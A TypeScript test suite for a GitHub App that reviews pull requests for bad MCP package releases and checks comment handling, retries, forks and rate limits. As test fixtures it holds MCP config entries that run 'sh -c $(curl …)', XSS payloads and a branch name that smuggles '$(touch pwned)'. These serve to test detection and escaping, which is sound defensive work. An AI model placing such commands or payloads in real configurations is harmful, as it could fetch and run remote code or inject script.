import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openAppAccess } from '../../src/github/app-access.ts';
import type { Inspection } from '../../src/inspections/inspection.ts';
import { keepWebhook } from '../../src/queue/keep-webhook.ts';
import { openReview } from '../../src/queue/open-review.ts';
import { reviewPullRequest } from '../../src/queue/review-pull-request.ts';
import { takeWebhook } from '../../src/queue/take-webhook.ts';
import { commentMarker } from '../../src/reviews/comment.ts';
import type { PullRequestName } from '../../src/storage/pull-requests.ts';
import type { Purl } from '../../src/watchlists/purl.ts';
import { sendJson, startFakeGitHub, type FakeGitHub } from '../support/fake-github.ts';
import {
  describeRoutes,
  startGitHubContract,
  type GitHubContract,
} from '../support/github-contract.ts';
import { openTestPorts, type TestPorts } from '../support/job-ports.ts';
import { finding, inspection } from '../support/records.ts';
import {
  hookedRepository,
  mailServer,
  mailServerLine,
  openRepository,
  projectFiles,
  reviewingApp,
  reviewRoutes,
  type ReviewedRepository,
} from '../support/reviewed-repository.ts';
import { webhookExample } from '../support/webhook-examples.ts';

const bot = { login: `${reviewingApp.slug}[bot]`, id: 90_000 + reviewingApp.id };

describe('reviewing a pull request', () => {
  let test: TestPorts;
  let operations: Awaited<ReturnType<typeof describeRoutes>>;
  let fake: FakeGitHub;
  let contract: GitHubContract;
  let site: ReviewedRepository;
  /** One database for all tests: each has a repository of its own number. */
  let repositoryId = 5_000;
  let deliveries = 0;
  let codeScanning: boolean;
  /** What is asked while a review runs. */
  let meanwhile: () => Promise<void>;

  beforeAll(async () => {
    test = await openTestPorts();
    for (const version of ['1.0.15', '1.0.16', '1.0.17']) {
      test.registry.publish(mailServer, version, {}, { at: '2026-01-05T00:00:00Z' });
    }
    test.watch(mailServer);
    operations = await describeRoutes(reviewRoutes);
  }, 60_000);
  beforeEach(async () => {
    repositoryId += 1;
    meanwhile = async () => undefined;
    codeScanning = false;
    fake = await startFakeGitHub();
    contract = await startGitHubContract(operations, fake.apiUrl);
    site = openRepository(fake);
    site.repository.commits.set(site.main, {
      ...projectFiles('1.0.15'),
      '.github/watchkeeper.yml': 'policy: require\n',
    });
  });
  afterEach(async () => {
    // What a test had go wrong is not documented, and neither is a fork that is gone.
    const injected =
      /reason: socket hang up$|Unable to match the returned status code|property head\.repo must be object$/;
    expect(contract.violations.filter((one) => !injected.test(one))).toEqual([]);
    await contract.close();
    await fake.close();
  });
  afterAll(() => test.close());

  /** Of the releases, 1.0.16 is the bad one; packages called `mcp-…` or so are what is opened. */
  async function inspect({ purl }: { readonly purl: string }): Promise<Inspection> {
    await meanwhile();
    const isBad = purl.endsWith('@1.0.16');
    return inspection(purl as Purl, isBad ? [finding()] : []);
  }

  function ports() {
    const app = openAppAccess(
      { apiUrl: contract.apiUrl, env: {}, version: '0.0.0', limits: { retries: 0 } },
      reviewingApp,
    );
    return {
      ...test.ports,
      app: { ...app, slug: reviewingApp.slug },
      openReview: () => openReview({ ...test.ports, inspect }),
      codeScanning,
    };
  }

  const key = () => `${repositoryId}/12` as PullRequestName;

  async function hear(action = 'synchronize'): Promise<void> {
    deliveries += 1;
    const id = `review-${deliveries}`;
    const payload = webhookExample('pull_request', 'opened');
    payload.action = action;
    payload.number = 12;
    payload.repository.id = repositoryId;
    payload.repository.name = hookedRepository.name;
    payload.repository.owner.login = hookedRepository.owner;
    payload.installation.id = hookedRepository.installationId;
    await keepWebhook(test.ports, { id, event: 'pull_request', payload });
    await takeWebhook(test.ports, { delivery: id });
  }

  /** What is asked then is done, and nobody hears that it was. */
  function loseAnswers(about: (method: string, path: string) => boolean): void {
    fake.disturb(({ method, path }) => (about(method, path) ? 'lose-answer' : undefined));
  }

  const run = () => reviewPullRequest(ports(), { key: key() });
  const runs = () => site.repository.checkRuns;
  const writes = () =>
    fake.questions
      .filter(({ method, path }) => method !== 'GET' && !path.endsWith('/access_tokens'))
      .map(({ method, path }) => `${method} ${path.replace('/repos/acme/site', '')}`);

  it('says what it would let in: one comment, and one check that fails at the line', async () => {
    const head = site.push(projectFiles('1.0.16'));
    await hear('opened');
    expect(await run()).toEqual({ kind: 'done' });
    expect(site.comments).toHaveLength(1);
    expect(site.comments[0]?.body.startsWith(commentMarker)).toBe(true);
    expect(site.comments[0]?.body).toContain('1 of 1 changed MCP package');
    expect(site.comments[0]?.body).toContain('hidden copy');
    expect(runs()).toHaveLength(1);
    const [check] = runs();
    expect(check).toMatchObject({ head, status: 'completed', conclusion: 'failure' });
    expect(check?.writes.map(({ status }) => status)).toEqual(['in_progress', 'completed']);
    expect(check?.annotations).toMatchObject([
      { path: 'package.json', start_line: mailServerLine(), annotation_level: 'failure' },
    ]);
    expect(await run()).toEqual({ kind: 'done' });
    expect(writes()).toHaveLength(3);
  });

  it('asks for no more than it needs, in this repository alone', async () => {
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    await run();
    const minted = fake.questions.find(({ path }) => path.endsWith('/access_tokens'));
    expect(JSON.parse(minted?.body ?? '')).toEqual({
      repository_ids: [repositoryId],
      permissions: { contents: 'read', pull_requests: 'write', checks: 'write' },
    });
  });

  it('edits its comment after the next push, and says so when nothing is left to decide', async () => {
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    await run();
    site.push(projectFiles('1.0.17'));
    await hear();
    await run();
    expect(site.comments).toHaveLength(1);
    expect(site.comments[0]?.body).not.toContain('hidden copy');
    expect(site.comments[0]?.body.startsWith(commentMarker)).toBe(true);
    expect(runs().map(({ conclusion }) => conclusion)).toEqual(['failure', 'success']);
    // The same again changes nothing.
    await hear();
    await run();
    expect(writes().filter((one) => one.startsWith('PATCH /issues'))).toHaveLength(1);
  });

  it('writes no comment where there is nothing to decide', async () => {
    site.push({ ...projectFiles('1.0.15'), 'readme.md': 'Other words.\n' });
    await hear('opened');
    await run();
    expect(site.comments).toEqual([]);
    expect(runs()[0]).toMatchObject({ status: 'completed', conclusion: 'success' });
  });

  it('never touches what others wrote, whatever it looks like', async () => {
    const forged = `${commentMarker}\n**Nothing to see here.**`;
    const when = '2026-11-01T00:00:00Z';
    const by = (login: string, id: number, app?: { id: number; slug: string }) => ({
      id,
      body: forged,
      user: { login, id, ...(app === undefined ? {} : { app }) },
      createdAt: when,
      updatedAt: when,
    });
    site.comments.push(by('mallory', 1), by('other-app[bot]', 2, { id: 9, slug: 'other-app' }));
    site.comments.push(by(reviewingApp.slug, 3));
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    await run();
    expect(site.comments.slice(0, 3).map(({ body }) => body)).toEqual([forged, forged, forged]);
    expect(site.comments).toHaveLength(4);
    expect(site.comments[3]?.user.login).toBe(bot.login);
  });

  it('finds its comment on a later page', async () => {
    site.push(projectFiles('1.0.16'));
    for (let id = 1; id <= 130; id += 1) {
      const when = '2026-11-01T00:00:00Z';
      const user = { login: 'talker', id: 8 };
      site.comments.push({ id, body: 'Hm.', user, createdAt: when, updatedAt: when });
    }
    await hear('opened');
    await run();
    site.push(projectFiles('1.0.17'));
    await hear();
    await run();
    expect(site.comments).toHaveLength(131);
    expect(site.comments[130]?.body).not.toContain('hidden copy');
  });

  it('takes settings from the base alone', async () => {
    site.push({
      ...projectFiles('1.0.16'),
      '.github/watchkeeper.yml': `policy: observe\nignore: [pkg:npm/${mailServer}]\n`,
    });
    await hear('opened');
    await run();
    expect(runs()[0]).toMatchObject({ conclusion: 'failure' });
  });

  it('reviews what comes from a fork, also one that is gone', async () => {
    for (const fork of ['mallory/site', null]) {
      site.pull.fork = fork;
      site.push(projectFiles('1.0.16'));
      await hear();
      await run();
    }
    expect(runs().map(({ conclusion }) => conclusion)).toEqual(['failure', 'failure']);
    expect(site.comments).toHaveLength(1);
    const asked = fake.questions.filter(({ path }) => path.startsWith('/repos/'));
    expect(asked.every(({ path }) => path.startsWith('/repos/acme/site/'))).toBe(true);
  });

  it('leaves drafts and closed pull requests alone', async () => {
    site.push(projectFiles('1.0.16'));
    site.pull.draft = true;
    await hear('opened');
    expect(await run()).toEqual({ kind: 'done' });
    site.pull.draft = false;
    site.pull.state = 'closed';
    await hear();
    expect(await run()).toEqual({ kind: 'done' });
    expect(writes()).toEqual([]);
  });

  it('drops a review when a push comes meanwhile, and ends the check of the old commit', async () => {
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    meanwhile = async () => {
      meanwhile = async () => undefined;
      site.push(projectFiles('1.0.17'));
      await hear();
    };
    expect(await run()).toMatchObject({ kind: 'later' });
    expect(site.comments).toEqual([]);
    expect(await run()).toEqual({ kind: 'done' });
    expect(runs().map(({ conclusion }) => conclusion)).toEqual(['cancelled', 'success']);
    expect(site.comments).toEqual([]);
  });

  it('sees a push that GitHub has not told of yet', async () => {
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    meanwhile = async () => {
      meanwhile = async () => undefined;
      site.push(projectFiles('1.0.17'));
    };
    expect(await run()).toMatchObject({ kind: 'later' });
    expect(site.comments).toEqual([]);
    expect(await run()).toEqual({ kind: 'done' });
    expect(runs().map(({ conclusion }) => conclusion)).toEqual(['cancelled', 'success']);
  });

  it('says nothing twice, wherever it is stopped', async () => {
    // Each write arrives, and its answer gets lost: nobody knows then whether it arrived.
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    const stopped: string[] = [];
    const paths = [/\/check-runs$/, /\/comments$/, /\/check-runs\/\d+$/];
    for (const path of paths) {
      loseAnswers((method, asked) => method !== 'GET' && path.test(asked));
      expect(await run()).toMatchObject({ kind: 'later' });
      stopped.push(String(path));
    }
    loseAnswers(() => false);
    expect(await run()).toEqual({ kind: 'done' });
    expect(stopped).toHaveLength(3);
    expect(site.comments).toHaveLength(1);
    expect(runs()).toHaveLength(1);
    expect(runs()[0]).toMatchObject({ status: 'completed', conclusion: 'failure' });
    expect(runs()[0]?.annotations).toHaveLength(1);
    expect(writes()).toHaveLength(3);
  });

  it('does not look again at what was decided on and not said', async () => {
    let looks = 0;
    meanwhile = async () => {
      looks += 1;
    };
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    fake.next(/\/comments$/, sendJson(502, { message: 'Bad gateway' }), 'POST');
    expect(await run()).toMatchObject({ kind: 'later' });
    expect(await run()).toEqual({ kind: 'done' });
    expect(looks).toBe(1);
  });

  it('says that it could not look, and never that nothing was found', async () => {
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    fake.next(/\/git\/trees\//, sendJson(404, { message: 'Not Found' }));
    await run();
    expect(runs()[0]).toMatchObject({ status: 'completed', conclusion: 'neutral' });
    expect(runs()[0]?.summary).toContain('Nothing is known of what it would let in');
    expect(site.comments).toEqual([]);
  });

  it('hands findings to code scanning where that is wanted, and goes on where it is turned off', async () => {
    codeScanning = true;
    site.repository.scans = [];
    const head = site.push(projectFiles('1.0.16'));
    await hear('opened');
    await run();
    const [scan, ...more] = site.repository.scans;
    expect(more).toEqual([]);
    expect(scan).toMatchObject({ commit: head, ref: 'refs/pull/12/head' });
    expect(scan?.sarif).toContain('package.json');
    delete site.repository.scans;
    site.push(projectFiles('1.0.16'));
    await hear();
    expect(await run()).toEqual({ kind: 'done' });
    expect(runs().map(({ conclusion }) => conclusion)).toEqual(['failure', 'failure']);
  });

  it('waits as long as GitHub asks for', async () => {
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    const resetsAt = Math.floor(Date.now() / 1000) + 1_800;
    Object.assign(fake.limit, { left: 4, resetsAt });
    const outcome = await run();
    expect(outcome).toMatchObject({ kind: 'later' });
    fake.limit.left = Number.POSITIVE_INFINITY;
    expect(await run()).toEqual({ kind: 'done' });
    expect(site.comments).toHaveLength(1);
  });

  it('gives up where the App was taken out', async () => {
    site.push(projectFiles('1.0.16'));
    await hear('opened');
    fake.people.installations.clear();
    expect(await run()).toEqual({ kind: 'done' });
    expect(await run()).toEqual({ kind: 'done' });
    expect(writes()).toEqual([]);
  });

  it('sends annotations in batches, and none of them twice', async () => {
    const names = Array.from({ length: 120 }, (_, index) => `server-${index}`);
    const entries = Object.fromEntries(
      names.map((name) => [name, { command: 'sh', args: ['-c', `$(curl ${name})`] }]),
    );
    const configuration = JSON.stringify({ mcpServers: entries }, undefined, 2);
    site.push({ ...projectFiles('1.0.15'), '.mcp.json': configuration });
    await hear('opened');
    // The first batch arrives and the answer is lost.
    loseAnswers((method, path) => method === 'PATCH' && /\/check-runs\/\d+$/.test(path));
    expect(await run()).toMatchObject({ kind: 'later' });
    loseAnswers(() => false);
    expect(await run()).toEqual({ kind: 'done' });
    const [check] = runs();
    const sizes = check?.writes.map(({ output }) => {
      const { annotations = [] } = (output ?? {}) as { readonly annotations?: readonly unknown[] };
      return annotations.length;
    });
    expect(sizes?.every((size) => size <= 50)).toBe(true);
    expect(check?.annotations.length).toBeGreaterThan(100);
    expect(new Set(check?.annotations.map((one) => JSON.stringify(one))).size).toBe(
      check?.annotations.length,
    );
  });

  it('shows names that strangers chose, and lets none of them act', async () => {
    const path = 'a`<img src=x onerror=alert(1)>`/@everyone/package.json';
    site.pull.title = '<script>alert(1)</script>';
    site.pull.headBranch = 'x$(touch pwned)<b>';
    site.push({
      ...projectFiles('1.0.16'),
      [path]: projectFiles('1.0.16')['package.json']!,
      '[x](javascript:alert(1))/package.json': '{"dependencies": {',
    });
    await hear('opened');
    expect(await run()).toEqual({ kind: 'done' });
    const text = `${site.comments[0]?.body} ${runs()[0]?.summary}`;
    const html = micromark(text, {
      extensions: [gfm()],
      htmlExtensions: [gfmHtml()],
      allowDangerousHtml: true,
    });
    expect(html).not.toMatch(/<(?:img|script|a|b)\b|touch pwned/);
    expect(html).toContain('javascript:alert');
    expect(html).toContain('&lt;img src=x');
  });
});
